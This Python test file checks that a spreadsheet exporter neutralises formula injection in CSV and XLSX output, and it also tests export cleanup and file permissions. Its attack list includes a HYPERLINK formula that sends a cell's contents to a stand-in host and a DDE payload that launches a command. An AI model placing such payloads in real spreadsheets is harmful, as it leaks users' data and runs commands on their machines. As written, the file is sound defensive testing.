"""What a note or a name holds is shown in a spreadsheet and never run."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from field_api.adapters.tables import write_csv, write_table
from field_api.domain.spreadsheet import neutral

ATTACKS = [
    '=HYPERLINK("http://x.example?"&A1,"ok")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1",
    "＝1+1", "=cmd|' /C calc'!A0", "\ufeff=1+1",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_becomes_text(attack: str) -> None:
    assert neutral(attack).startswith("'")


@pytest.mark.parametrize("plain", ["Calle 5", "S/N", "a=b", "O'Higgins", "", "17-A"])
def test_plain_text_stays_as_it_is(plain: str) -> None:
    assert neutral(plain) == plain


@given(st.text())
def test_no_text_begins_like_a_formula_or_breaks_a_line(text: str) -> None:
    made = neutral(text)
    assert not made.lstrip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert not set(made) & {"\r", "\n", "\x00"}


def test_csv_rows_come_back_neutral_and_numbers_stay_numbers() -> None:
    stream = io.StringIO()
    assert write_csv(stream, ["a", "b", "c", "d"], [(attack, -5, None, True) for attack in ATTACKS]) == len(ATTACKS)
    header, *rows = csv.reader(io.StringIO(stream.getvalue()))
    assert header == ["a", "b", "c", "d"]
    assert [row[1:] for row in rows] == [["-5", "", "true"]] * len(ATTACKS)
    assert all(not row[0].lstrip().startswith(("=", "+", "-", "@")) for row in rows)


def test_an_xlsx_holds_no_formula_and_no_link(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    rows = [(attack, "http://x.example", -5, True, None) for attack in ATTACKS]
    assert write_table(path, "xlsx", ["a", "b", "c", "d", "e"], rows) == len(ATTACKS)
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "hyperlink" not in sheet.lower().replace("=hyperlink", "")
    read = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()
    assert read[1][1:4] == ["http://x.example", -5.0, True]
    assert len(read) == len(ATTACKS) + 1


def test_a_broken_export_leaves_nothing_behind(tmp_path: Path) -> None:
    def rows():
        yield ("a",)
        raise ZeroDivisionError

    for kind in ("csv", "xlsx"):
        with pytest.raises(ZeroDivisionError):
            write_table(tmp_path / "out", kind, ["a"], rows())
    assert list(tmp_path.iterdir()) == []


def test_the_file_is_its_owners_alone(tmp_path: Path) -> None:
    for kind in ("csv", "xlsx"):
        write_table(tmp_path / kind, kind, ["a"], [])
        assert (tmp_path / kind).stat().st_mode & 0o777 == 0o600
